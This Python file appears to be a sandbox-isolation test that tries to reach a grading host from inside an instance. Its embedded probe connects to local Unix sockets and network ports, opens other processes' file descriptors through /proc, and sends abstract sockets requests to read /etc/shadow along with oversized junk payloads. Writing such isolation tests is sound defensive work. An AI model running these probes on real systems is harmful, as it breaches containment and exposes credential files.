"""Reaches for the judge from inside an instance: its Unix sockets, abstract ones and others, this machine's ports, the
descriptors of the SSH server's processes, and the rack that the little programs ask.

kind: reach out
answers: visit
says: nobody answered
strong: holds
partial: not run: no instance answers there
none: not run: no instance answers there
"""

THERE = r"""
import json, os, socket, struct
def ask(family, address, words=b""):
    with socket.socket(family) as sock:
        sock.settimeout(0.5)
        try:
            sock.connect(address)
            sock.sendall(words)
            return sock.recv(4096)
        except OSError:
            return b""
for address in (f"\0{aim.abstract}", aim.socket):
    if ask(socket.AF_UNIX, address):
        print("BREACH: a socket of this machine answered")
for host in ("127.0.0.1", "10.0.2.2", "172.17.0.1", "192.168.0.1", "1.1.1.1"):
    if ask(socket.AF_INET, (host, aim.port)):
        print("BREACH: a port of this machine answered")
for pid in os.listdir("/proc"):
    for fd in os.listdir(f"/proc/{pid}/fd") if pid.isdecimal() and os.access(f"/proc/{pid}/fd", os.R_OK) else ():
        if int(pid) == os.getpid():
            continue
        try:
            os.close(os.open(f"/proc/{pid}/fd/{fd}", os.O_RDWR | os.O_NONBLOCK))
        except OSError:
            pass
names = [line.split()[-1] for line in open("/proc/net/unix") if "@" in line]
message = b'{"read":"i-0","path":"/etc/shadow","do":"boot","instance":"i-0","about":{}}'
for name in names:
    for words in (message, struct.pack("!I", len(message)) + message, b"\xff" * 70000, b"[" * 5000):
        told = ask(socket.AF_UNIX, "\0" + name[1:], words)
        if b"judge" in told or b"root:x" in told:
            print("BREACH:", name, told)
print("nobody answered")
"""


def attack():
    print(aim.there(THERE))
